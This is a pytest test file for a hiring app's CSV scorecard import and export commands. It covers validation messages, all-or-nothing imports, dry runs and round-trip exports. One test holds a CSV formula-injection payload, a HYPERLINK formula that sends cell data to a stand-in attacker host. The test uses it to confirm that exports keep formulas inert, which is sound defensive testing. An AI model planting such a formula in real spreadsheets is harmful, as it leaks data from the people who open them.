"""`hiring import scorecards` and `hiring export scorecards`: the CSV format, every problem
with its line, all or nothing, and export -> import -> export changing nothing."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import func
from sqlmodel import SQLModel, select

from hiring import candidates
from hiring.accounts import NO_PASSWORD_PREFIX, authenticate, password_matches
from hiring.db import new_session
from hiring.models import (
    AuditEntry,
    Candidate,
    CandidateRollup,
    Interview,
    Rating,
    Recommendation,
    Role,
    RubricVersion,
    Scorecard,
    ScorecardStatus,
    User,
)
from hiring.rubric_loader import load_rubrics
from hiring.scorecard_csv_format import HEADER
from hiring.scoring import RatingInput, ScorecardInput, save_scorecard
from tests.conftest import AuthActions
from tests.test_rubrics import PROJECT_RUBRICS

WHEN = "2026-11-02T13:00:00+00:00"
DEFAULTS = {
    "candidate_email": "ann@example.com",
    "candidate_name": "Ann Bell",
    "rubric": "product-manager",
    "interviewer_email": "ivan@example.com",
    "competency": "high-agency",
    "rating": "3",
    "evidence": "Fixed onboarding drop-off unasked, within a week.",
    "recommendation": "yes",
    "anti_patterns": "",
    "submitted_at": WHEN,
}


def _csv(*rows: dict[str, str], header: tuple[str, ...] = HEADER) -> str:
    """A file with these rows, each DEFAULTS with its overrides."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([{**DEFAULTS, **row}[name] for name in header] for row in rows)
    return buffer.getvalue()


def _import(runner: FlaskCliRunner, path: Path, content: str | bytes, *options: str) -> Any:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return runner.invoke(args=["import", "scorecards", str(path), *options])


def _counts(app: Flask) -> dict[str, int]:
    with new_session(app.extensions["hiring.engine"]) as session:
        return {
            table.name: session.exec(select(func.count()).select_from(table)).one()
            for table in SQLModel.metadata.sorted_tables
        }


def _one(app: Flask, model: Any, *where: Any) -> Any:
    with new_session(app.extensions["hiring.engine"]) as session:
        return session.exec(select(model).where(*where)).one()


def test_import_adds_scorecards_candidates_and_interviewers_who_cannot_sign_in_yet(
    app: Flask,
    runner: FlaskCliRunner,
    client: FlaskClient,
    auth: AuthActions,
    users: dict[str, User],
    tmp_path: Path,
) -> None:
    content = _csv(
        {
            "competency": "decisiveness",
            "rating": "4",
            "anti_patterns": "deck-culture; ceo-of-product",
        },
        {"anti_patterns": "deck-culture;ceo-of-product"},
        {
            "competency": "high-eq",
            "rating": "",
            "evidence": "",
            "anti_patterns": "deck-culture;ceo-of-product",
        },
        {
            "competency": "bias-to-shipping",
            "rating": "",
            "evidence": "Ran out of time.",
            "anti_patterns": "deck-culture;ceo-of-product",
        },
        {
            "interviewer_email": "Nina@Example.com",
            "recommendation": "strong_yes",
            "submitted_at": "2026-11-02T14:00:00+01:00",
        },
        {
            "candidate_email": "bob@example.com",
            "candidate_name": "Bob Chen",
            "rubric": "product-engineer",
            "competency": "execution-speed",
            "rating": "2",
            "recommendation": "no",
            "submitted_at": "2026-11-03",
        },
    )
    path = tmp_path / "scorecards.csv"
    result = _import(runner, path, "\ufeff" + content)  # Excel's "CSV UTF-8" starts with a BOM
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"Imported 3 scorecard(s) (4 rating(s)), 2 new candidate(s), 1 new interviewer "
        f"account(s) from {path}.",
        "New interviewer accounts sign in once given a password with `hiring users password "
        "EMAIL`: nina@example.com.",
    ]

    ann = _one(app, Candidate, Candidate.email == "ann@example.com")
    assert (ann.name, ann.rubric_id) == ("Ann Bell", "product-manager")
    ivan, nina = users["interviewer"], _one(app, User, User.email == "nina@example.com")
    assert (nina.name, nina.role, nina.active) == ("nina", Role.INTERVIEWER, True)
    assert nina.password_hash.startswith(NO_PASSWORD_PREFIX)
    interview = _one(
        app, Interview, Interview.candidate_id == ann.id, Interview.interviewer_id == ivan.id
    )
    assert interview.focus == [
        "high-agency",
        "high-eq",
        "decisiveness",
        "bias-to-shipping",
    ]  # rubric order
    assert interview.scheduled_at is None
    scorecard = _one(app, Scorecard, Scorecard.interview_id == interview.id)
    moment = datetime(2026, 11, 2, 13, tzinfo=UTC)
    assert (scorecard.status, scorecard.version, scorecard.takeaways) == (
        ScorecardStatus.SUBMITTED,
        1,
        "",
    )
    assert scorecard.ratings == {
        "decisiveness": {"rating": 4, "evidence": DEFAULTS["evidence"]},
        "high-agency": {"rating": 3, "evidence": DEFAULTS["evidence"]},
        "bias-to-shipping": {"rating": None, "evidence": "Ran out of time."},
    }
    assert scorecard.anti_patterns == [
        {"id": "deck-culture", "evidence": ""},
        {"id": "ceo-of-product", "evidence": ""},
    ]
    assert scorecard.recommendation == Recommendation.YES
    assert scorecard.submitted_at == scorecard.created_at == scorecard.updated_at == moment
    version = _one(app, RubricVersion, RubricVersion.id == scorecard.rubric_version_id)
    assert version.rubric_id == "product-manager"
    audit = _one(app, AuditEntry, AuditEntry.scorecard_id == scorecard.id)
    assert (audit.action, audit.actor_id, audit.changes, audit.at) == (
        "imported",
        ivan.id,
        {},
        moment,
    )
    ninas = _one(
        app,
        Scorecard,
        Scorecard.id != scorecard.id,
        Scorecard.recommendation == Recommendation.STRONG_YES,
    )
    assert ninas.submitted_at == moment  # 14:00 at +01:00
    bobs = _one(app, Scorecard, Scorecard.recommendation == Recommendation.NO)
    assert bobs.submitted_at == datetime(2026, 11, 3, tzinfo=UTC)  # a bare date: midnight UTC

    with new_session(app.extensions["hiring.engine"]) as session:
        ratings = session.exec(
            select(
                Rating.candidate_id,
                Rating.interviewer_id,
                Rating.rubric_id,
                Rating.competency_id,
                Rating.rating,
            )
        ).all()
        rollups = {r.candidate_id: r for r in session.exec(select(CandidateRollup)).all()}
    bob = _one(app, Candidate, Candidate.email == "bob@example.com")
    assert sorted(ratings) == sorted(
        [
            (ann.id, ivan.id, "product-manager", "decisiveness", 4),
            (ann.id, ivan.id, "product-manager", "high-agency", 3),
            (ann.id, nina.id, "product-manager", "high-agency", 3),
            (bob.id, ivan.id, "product-engineer", "execution-speed", 2),
        ]
    )
    assert (rollups[ann.id].yes, rollups[ann.id].strong_yes, rollups[ann.id].overall) == (
        1,
        1,
        pytest.approx(3.4),
    )
    assert (rollups[bob.id].no, rollups[bob.id].overall) == (1, 2.0)

    with new_session(app.extensions["hiring.engine"]) as session:
        assert authenticate(session=session, email="nina@example.com", password="") is None
        assert (
            authenticate(session=session, email="nina@example.com", password=nina.password_hash)
            is None
        )
    assert auth.login("nina@example.com", "anything-at-all").status_code == 200
    assert (
        runner.invoke(
            args=["users", "password", "nina@example.com", "--password-stdin"],
            input="ninas-new-password\n",
        ).exit_code
        == 0
    )
    assert auth.login("nina@example.com", "ninas-new-password").status_code == 302
    auth.logout()
    auth.login("rita@example.com")
    page = client.get(f"/interviews/{interview.id}/scorecard").get_data(as_text=True)
    assert "Ivan submitted (imported from a CSV file)" in page
    assert "Ran out of time." in page


def test_an_unusable_password_hash_matches_nothing() -> None:
    assert password_matches(NO_PASSWORD_PREFIX + "0123abcd", "") is False
    assert (
        password_matches(NO_PASSWORD_PREFIX + "0123abcd", NO_PASSWORD_PREFIX + "0123abcd") is False
    )


def _add_candidate(app: Flask, email: str, rubric_id: str = "product-manager") -> Candidate:
    with new_session(app.extensions["hiring.engine"]) as session:
        candidate = candidates.create_candidate(
            session=session,
            rubrics=load_rubrics([PROJECT_RUBRICS]),
            name=email.split("@")[0].title(),
            email=email,
            rubric_id=rubric_id,
        )
        session.commit()
        return candidate


def _assign(
    app: Flask,
    candidate: Candidate,
    email: str,
    focus: list[str] | None = None,
    submit: bool | None = None,
    evidence: str = "Did it.",
) -> int:
    """An interview of `candidate` by `email`; with a scorecard, a draft or submitted."""
    rubrics = load_rubrics([PROJECT_RUBRICS])
    with new_session(app.extensions["hiring.engine"]) as session:
        interview = candidates.assign_interview(
            session=session,
            rubrics=rubrics,
            candidate=candidate,
            interviewer_email=email,
            focus=focus,
        )
        if submit is not None:
            data = ScorecardInput(
                ratings={"high-agency": RatingInput(rating=3, evidence=evidence)},
                recommendation=Recommendation.YES,
                submit=submit,
            )
            author = session.exec(select(User).where(User.email == email)).one()
            save_scorecard(
                session=session,
                interview=interview,
                author=author,
                data=data,
                current_rubric=rubrics.rubrics[candidate.rubric_id],
            )
        session.commit()
        assert interview.id is not None
        return interview.id


def test_import_fills_the_interview_already_assigned_and_widens_its_focus(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User], tmp_path: Path
) -> None:
    interview_id = _assign(
        app, _add_candidate(app, "ann@example.com"), "ivan@example.com", ["high-eq"]
    )
    before = _counts(app)
    content = _csv({"competency": "decisiveness"}, {"competency": "high-agency", "rating": "4"})
    result = _import(runner, tmp_path / "in.csv", content)
    assert result.exit_code == 0, result.output
    assert (
        "1 scorecard(s) (2 rating(s), 1 on interviews already assigned), 0 new candidate(s)"
        in result.stdout
    )
    after = _counts(app)
    assert after["interviews"] == before["interviews"]
    assert after["scorecards"] == before["scorecards"] + 1
    interview = _one(app, Interview, Interview.id == interview_id)
    assert interview.focus == ["high-agency", "high-eq", "decisiveness"]
    assert (
        _one(app, Scorecard, Scorecard.interview_id == interview_id).status
        == ScorecardStatus.SUBMITTED
    )


def test_a_dry_run_checks_everything_and_writes_nothing(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User], tmp_path: Path
) -> None:
    before = _counts(app)
    content = _csv({}, {"competency": "decisiveness", "interviewer_email": "new@example.com"})
    path = tmp_path / "in.csv"
    result = _import(runner, path, content, "--dry-run")
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        f"Dry run, nothing written: importing {path} would add 2 scorecard(s) (2 rating(s)), "
        "1 new candidate(s), 1 new interviewer account(s).\n"
    )
    assert _counts(app) == before
    refused = _import(runner, path, _csv({"rating": "9"}), "--dry-run")
    assert refused.exit_code == 1
    assert f"{path}:2: rating: 9 is not on the scale of product-manager" in refused.stderr


SCALE = "use one of 1, 2, 3, 4, or leave it empty when the competency was not assessed"
ELSEWHERE = "in the app: {}, or remove this scorecard's rows from the file"
COMPETENCIES = (
    "high-agency, comfort-with-ambiguity, leading-through-influence, high-eq, decisiveness, "
    "bias-to-shipping"
)
ANTI_PATTERNS = (
    "needs-swim-lanes, waits-for-permission, ceo-of-product, abdication, deck-culture, "
    "plans-as-commitments, research-as-vendor, polish-over-shipping"
)


def _same(column: str, first: str, where: str) -> str:
    return f"differs from {first} on {where}: give the same {column} on each of them"


def test_every_bad_row_is_reported_with_its_line_and_nothing_is_written(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User], tmp_path: Path
) -> None:
    _add_candidate(app, "cara@example.com", "product-engineer")
    _assign(app, _add_candidate(app, "dan@example.com"), "ivan@example.com", submit=True)
    _assign(app, _add_candidate(app, "erin@example.com"), "olga@example.com", submit=False)
    olga, this = "olga@example.com", "the rows of this scorecard from line"
    rows: list[tuple[dict[str, str], str]] = [
        (
            {"candidate_email": "c1@example.com", "rubric": "product-wizard"},
            "rubric: no rubric has the id 'product-wizard': use one of product-engineer, "
            "product-manager, research-engineer",
        ),
        (
            {"candidate_email": "c2@example.com", "competency": "warp-speed"},
            "competency: product-manager has no competency 'warp-speed': use one of "
            + COMPETENCIES,
        ),
        (
            {"candidate_email": "c3@example.com", "rating": "5"},
            f"rating: 5 is not on the scale of product-manager: {SCALE}",
        ),
        (
            {"candidate_email": "c4@example.com", "rating": "3.5"},
            f"rating: '3.5' is not a whole number: {SCALE}",
        ),
        ({"candidate_email": "c5@example.com"}, ""),
        (
            {"candidate_email": "c5@example.com", "competency": "high-eq", "recommendation": "no"},
            "recommendation: 'no' " + _same("recommendation", "'yes'", f"{this} 6"),
        ),
        ({"candidate_email": "c6@example.com", "anti_patterns": "deck-culture"}, ""),
        (
            {"candidate_email": "c6@example.com", "competency": "high-eq"},
            "anti_patterns: (empty) " + _same("anti_patterns", "'deck-culture'", f"{this} 8"),
        ),
        ({"candidate_email": "c7@example.com"}, ""),
        (
            {
                "candidate_email": "c7@example.com",
                "competency": "high-eq",
                "submitted_at": "2026-11-02T15:00:00+01:00",
            },
            "submitted_at: '2026-11-02T14:00:00+00:00' "
            + _same("submitted_at", f"'{WHEN}'", f"{this} 10"),
        ),
        ({"candidate_email": "c8@example.com", "candidate_name": "Cy Eight"}, ""),
        (
            {
                "candidate_email": "c8@example.com",
                "candidate_name": "Cyrus Eight",
                "interviewer_email": olga,
            },
            "candidate_name: 'Cyrus Eight' "
            + _same("candidate_name", "'Cy Eight'", "the rows of c8@example.com from line 12"),
        ),
        ({"candidate_email": "c9@example.com"}, ""),
        (
            {
                "candidate_email": "c9@example.com",
                "interviewer_email": olga,
                "rubric": "product-engineer",
                "competency": "execution-speed",
            },
            "rubric: 'product-engineer' "
            + _same("rubric", "'product-manager'", "the rows of c9@example.com from line 14"),
        ),
        (
            {"candidate_email": "cara@example.com"},
            "rubric: cara@example.com is already a candidate for product-engineer, not "
            "product-manager: give product-engineer on each of their rows",
        ),
        (
            {"candidate_email": "not-an-email"},
            "candidate_email: 'not-an-email' is not a valid email address: ",
        ),
        (
            {"candidate_email": "c10@example.com", "submitted_at": "yesterday"},
            "submitted_at: 'yesterday' is not an ISO 8601 date and time: write it like "
            "2026-11-02T14:00:00+01:00",
        ),
        (
            {"candidate_email": "c11@example.com", "submitted_at": "2026-11-02T14:00:00"},
            "submitted_at: '2026-11-02T14:00:00' has no time zone: add one, e.g. "
            "2026-11-02T14:00:00+01:00 (Z for UTC)",
        ),
        (
            {"candidate_email": "c12@example.com", "anti_patterns": "deck-culture;magic-thinking"},
            "anti_patterns: 'magic-thinking': not an anti-pattern of product-manager; use "
            f"{ANTI_PATTERNS}, separated by ;",
        ),
        (
            {"candidate_email": "dan@example.com"},
            "interviewer_email: ivan@example.com already has a submitted scorecard for "
            "dan@example.com " + ELSEWHERE.format("amend it there"),
        ),
        (
            {"candidate_email": "erin@example.com", "interviewer_email": olga},
            "interviewer_email: olga@example.com already has a draft scorecard for "
            "erin@example.com " + ELSEWHERE.format("finish it there"),
        ),
        ({"candidate_email": "c13@example.com"}, ""),
        (
            {"candidate_email": "c13@example.com", "rating": "2"},
            "competency: high-agency is listed twice in the scorecard of ivan@example.com for "
            "c13@example.com (from line 23): keep one row per competency",
        ),
        (
            {"candidate_email": "c14@example.com", "rating": "", "evidence": "Not covered."},
            "rating: the scorecard of ivan@example.com for c14@example.com has no rating: "
            "rate at least one competency",
        ),
        (
            {"candidate_email": "c15@example.com", "submitted_at": "0001-01-01T00:00:00+01:00"},
            "submitted_at: '0001-01-01T00:00:00+01:00' is out of range: give a real date, e.g. "
            "2026-11-02T14:00:00+01:00",
        ),
        (
            {"candidate_email": "c16@example.com", "evidence": " "},
            "evidence: empty: every rating needs evidence, what did they say or do?",
        ),
        (
            {"candidate_email": "c17@example.com", "recommendation": "maybe"},
            "recommendation: 'maybe' is not a recommendation: use strong_no, no, yes or strong_yes",
        ),
        (
            {"candidate_email": "c18@example.com", "candidate_name": ""},
            "candidate_name: empty: give the candidate's full name, up to 200 characters",
        ),
        (
            {"candidate_email": "c19@example.com", "interviewer_email": ""},
            "interviewer_email: empty: give an email address",
        ),
        (
            {"candidate_email": "c20@example.com", "anti_patterns": "deck-culture;deck-culture"},
            "anti_patterns: deck-culture listed twice: give each anti-pattern once",
        ),
        ({"candidate_email": "c21@example.com"}, ""),
    ]
    path = tmp_path / "bad.csv"
    content = _csv(*(row for row, _ in rows)) + "too,few,cells\n"
    before = _counts(app)
    result = _import(runner, path, content)
    assert result.exit_code == 1
    expected = [f"{path}:{line}: {message}" for line, (_, message) in enumerate(rows, 2) if message]
    expected.append(
        f"{path}:{len(rows) + 2}: 3 cell(s) where the header has 10: is a comma missing or "
        'extra, or a quote (") left open?'
    )
    reported = result.stderr.splitlines()
    assert reported[-1] == f"Error: {len(expected)} error(s) in {path}: nothing was imported"
    # email_validator words the reason; the line starts as expected and ends with what to do
    bad_email = next(line for line in expected if "not-an-email" in line)
    [found] = [line for line in reported if line.startswith(bad_email)]
    assert found.endswith(": correct the address")
    assert [line if line != found else bad_email for line in reported[:-1]] == expected
    assert result.stdout == "" and "Traceback" not in result.output
    assert _counts(app) == before


def _retitled(content: str, header: str) -> str:
    return header + "\n" + content.split("\n", 1)[1]


GOOD = _csv({})
HEADER_LINE = ",".join(HEADER)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", f": the file is empty: its first line must be {HEADER_LINE}"),
        (b"\n" + GOOD.encode(), f": the file is empty: its first line must be {HEADER_LINE}"),
        (
            _retitled(GOOD, HEADER_LINE.replace("candidate_email", "Candiate_Email")),
            ":1: header: unknown column 'Candiate_Email' (did you mean candidate_email?); "
            f"missing column candidate_email: the first line must be exactly {HEADER_LINE}",
        ),
        (
            _csv({}, header=HEADER[:-1]),
            ":1: header: missing column submitted_at: the first line must be exactly "
            + HEADER_LINE,
        ),
        (
            _retitled(GOOD, HEADER_LINE + ",notes"),
            f":1: header: unknown column 'notes': the first line must be exactly {HEADER_LINE}",
        ),
        (
            _retitled(GOOD, HEADER_LINE.replace("evidence", "rating")),
            ":1: header: column rating appears 2 times; missing column evidence: the first line "
            f"must be exactly {HEADER_LINE}",
        ),
        (
            _retitled(GOOD, HEADER_LINE.replace("rating,evidence", "evidence,rating")),
            f":1: header: the columns are in another order: the first line must be exactly "
            f"{HEADER_LINE}",
        ),
        (
            _csv({}, {"competency": "decisiveness", "evidence": "Caf\xe9"}).encode("latin-1"),
            ":3: not UTF-8 (byte 77 of the line): save the file as UTF-8 (CSV UTF-8)",
        ),
        (
            _csv({"evidence": "a\x00b"}),
            ":2: contains a NUL character: is this a CSV file?",
        ),
    ],
)
def test_problems_with_the_whole_file_are_one_line_each(
    app: Flask,
    runner: FlaskCliRunner,
    users: dict[str, User],
    tmp_path: Path,
    content: str | bytes,
    problem: str,
) -> None:
    path = tmp_path / "file.csv"
    before = _counts(app)
    result = _import(runner, path, content)
    assert result.exit_code == 1, result.output
    assert result.stderr.splitlines() == [
        f"{path}{problem}",
        f"Error: 1 error(s) in {path}: nothing was imported",
    ]
    assert _counts(app) == before


def test_export_then_import_then_export_changes_nothing_and_formulas_stay_text(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User], tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pm = {"anti_patterns": "deck-culture;ceo-of-product"}
    bob = {
        "candidate_email": "bob@example.com",
        "candidate_name": "'-Bob-",
        "rubric": "product-engineer",
        "recommendation": "no",
        "submitted_at": "2026-11-03T00:00:00+00:00",
    }
    olgas = {
        "interviewer_email": "olga@example.com",
        "recommendation": "strong_yes",
        "submitted_at": "2026-11-02T15:30:00.250000+00:00",
    }
    content = _csv(  # as export writes it: by candidate, interviewer, then rubric order
        {**pm, "evidence": "'" + hyperlink},
        {
            **pm,
            "competency": "comfort-with-ambiguity",
            "rating": "",
            "evidence": 'Not asked, "but", she said:\nsecond line.',
        },
        {
            **pm,
            "competency": "decisiveness",
            "rating": "4",
            "evidence": "''=not a formula, typed by hand",
        },
        {**pm, "competency": "bias-to-shipping", "rating": "2", "evidence": "'+1 on shipping fast"},
        {**olgas, "rating": "4", "evidence": "'@channel she pinged everyone"},
        {**bob, "competency": "execution-speed", "rating": "2", "evidence": "'-- not much"},
        {**bob, "competency": "works-with-research", "rating": "1", "evidence": "Café ☕, ünïcode"},
    )
    imported = _import(runner, tmp_path / "in.csv", content)
    assert imported.exit_code == 0, imported.output
    exported = runner.invoke(args=["export", "scorecards", str(tmp_path / "out.csv")])
    assert exported.exit_code == 0, exported.output
    assert exported.stdout == f"Exported 3 scorecard(s) (7 row(s)) to {tmp_path / 'out.csv'}.\n"
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == content

    bob_row = _one(app, Candidate, Candidate.email == "bob@example.com")
    assert bob_row.name == "-Bob-"  # the apostrophe export adds is not part of the name
    ivans = _one(app, Scorecard, Scorecard.recommendation == Recommendation.YES).ratings
    evidence = {competency: given["evidence"] for competency, given in ivans.items()}
    assert evidence["high-agency"] == hyperlink
    assert evidence["decisiveness"] == "'=not a formula, typed by hand"
    assert evidence["bias-to-shipping"] == "+1 on shipping fast"


def test_export_writes_what_the_app_stored_formula_safe_to_a_file_or_standard_output(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User]
) -> None:
    ann = _add_candidate(app, "ann@example.com")
    _assign(app, ann, "ivan@example.com", submit=True, evidence="=SUM(A1:A9) in her head")
    _assign(app, ann, "olga@example.com", submit=False)  # a draft is not exported
    result = runner.invoke(args=["export", "scorecards", "-"])
    assert result.exit_code == 0, result.output
    [header, row] = result.stdout.splitlines()
    assert header == ",".join(HEADER)
    submitted_at = _one(app, Scorecard, Scorecard.status == ScorecardStatus.SUBMITTED).submitted_at
    assert row == (
        "ann@example.com,Ann,product-manager,ivan@example.com,high-agency,3,"
        f"'=SUM(A1:A9) in her head,yes,,{submitted_at.isoformat()}"
    )
    assert result.stderr == "Exported 1 scorecard(s) (1 row(s)) to standard output.\n"
    other = runner.invoke(args=["export", "scorecards", "-", "--rubric", "product-engineer"])
    assert other.stdout == ",".join(HEADER) + "\n"

    _assign(app, ann, "ivan@example.com", submit=True)  # a second interview by Ivan
    twice = runner.invoke(args=["export", "scorecards", "-"])
    assert "Warning: 1 scorecard(s) have the same candidate and interviewer as another" in (
        twice.stderr
    )


def test_a_scorecard_without_a_recommendation_is_imported_and_exported_as_such(
    app: Flask, runner: FlaskCliRunner, users: dict[str, User], tmp_path: Path
) -> None:
    content = _csv({"recommendation": ""}, {"competency": "high-eq", "recommendation": ""})
    result = _import(runner, tmp_path / "norec.csv", content)
    assert result.exit_code == 0, result.output
    assert _one(app, Scorecard).recommendation is None
    exported = runner.invoke(args=["export", "scorecards", "-"])
    assert exported.exit_code == 0
    assert exported.stdout == content
